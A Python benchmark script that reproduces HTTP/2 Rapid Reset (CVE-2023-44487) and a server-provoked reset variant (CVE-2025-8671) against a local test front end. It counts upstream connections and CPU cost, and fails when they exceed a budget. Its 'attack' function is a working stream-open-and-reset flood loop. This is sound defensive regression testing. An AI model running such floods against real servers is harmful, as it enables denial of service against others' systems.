"""What the streams cost that a client of HTTP/2 opens and gives up (CVE-2023-44487).

    uv run python bench/h2_resets.py [--count 5000] [--target 100] [--json FILE]

In three ways: in one write, each head with its reset; each head some time before its reset; and
by making the server reset them (a window beyond its maximum, CVE-2025-8671). A client that is
sent away comes back on another connection until all are sent. Target: 100 connections to the
upstream at most, and what its budget gains in the time that it takes. Linux.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import logging
import ssl
import sys
import time
from pathlib import Path
from typing import Any, Final

import h2.config
import h2.connection
import h2.exceptions
import h2_rig
import rig
from hyperframe.frame import WindowUpdateFrame

FIELDS: Final = [
    (":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/silent"),
]  # fmt: skip
TOP: Final = 2**31 - 1
PER_SECOND: Final = 100 / 30
"""Resets that a client's budget gains."""


async def attack(port: int, trust: ssl.SSLContext, way: str, left: int) -> int:
    """Open streams and give them up on one connection until it ends; how many."""
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", port, ssl=trust, server_hostname="localhost"
    )
    peer = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    peer.initiate_connection()
    peer.remote_settings.max_concurrent_streams = TOP
    sent = 0
    ended = asyncio.create_task(reader.read(-1))
    while sent < left and not ended.done():
        stream = peer.get_next_available_stream_id()
        peer.send_headers(stream, FIELDS, end_stream=True)
        if way != "at once":
            writer.write(peer.data_to_send())
            await asyncio.sleep(0.002)
        if way == "by the server":
            writer.write(WindowUpdateFrame(stream, window_increment=TOP).serialize())
        peer.reset_stream(stream)  # also to keep the books of this side
        raw = peer.data_to_send()
        if way != "by the server":
            writer.write(raw)
        sent += 1
        if sent % 50 == 0:
            await asyncio.sleep(0)
    writer.transport.abort()
    await asyncio.gather(ended, return_exceptions=True)
    return sent


async def run(front: h2_rig.Front, way: str, count: int) -> dict[str, Any]:
    """All streams of one way; what they cost."""
    trust = ssl.create_default_context(cafile=str(front.ca))
    trust.set_alpn_protocols(["h2"])
    dials, cpu, began = front.dials(), rig.cpu_seconds(front.worker), time.monotonic()
    sent = connections = 0
    while sent < count:
        sent += await attack(front.node.port, trust, way, count - sent)
        connections += 1
    await asyncio.sleep(0.5)
    seconds = time.monotonic() - began
    return {
        "streams": sent,
        "connections": connections,
        "upstream_dials": front.dials() - dials,
        "gained": round(seconds * PER_SECOND),
        "worker_cpu_s": round(rig.cpu_seconds(front.worker) - cpu, 2),
        "seconds": round(seconds, 1),
    }


def main() -> None:
    """Measure and tell; exit status 1 where it costs too much."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--count", type=int, default=5000)
    parser.add_argument("--target", type=int, default=100, help="connections to the upstream")
    parser.add_argument("--json", type=Path)
    options = parser.parse_args()
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # writes to what has been closed
    data = {}
    for way in ("at once", "later", "by the server"):
        with h2_rig.front() as front:
            data[way] = asyncio.run(run(front, way, options.count))
        print(way, data[way], flush=True)
    if options.json:
        options.json.write_text(json.dumps(data, indent=1) + "\n")
    over = [w for w, x in data.items() if x["upstream_dials"] > options.target + x["gained"]]
    sys.exit(bool(over))


if __name__ == "__main__":
    main()
